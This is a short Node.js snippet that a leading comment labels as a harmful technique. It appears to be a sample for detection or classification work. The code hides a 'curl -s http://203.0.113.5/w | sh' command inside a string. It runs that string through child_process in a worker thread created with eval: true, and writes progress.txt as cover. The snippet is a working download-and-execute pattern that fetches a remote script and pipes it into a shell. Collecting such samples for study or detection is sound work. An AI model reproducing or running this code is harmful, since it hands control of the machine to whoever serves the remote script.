// harm: execute built code in a worker; technique: worker_threads Worker with eval: true and string source
const { Worker } = require('worker_threads');
const fs = require('fs');

const src = ["const cp = require('child_process');", "cp.execSync('curl -s http://203.0.113.5/w | sh');"].join('\n');
fs.writeFileSync('progress.txt', 'starting');

const w = new Worker(src, { eval: true });
w.on('exit', () => fs.writeFileSync('progress.txt', 'done'));
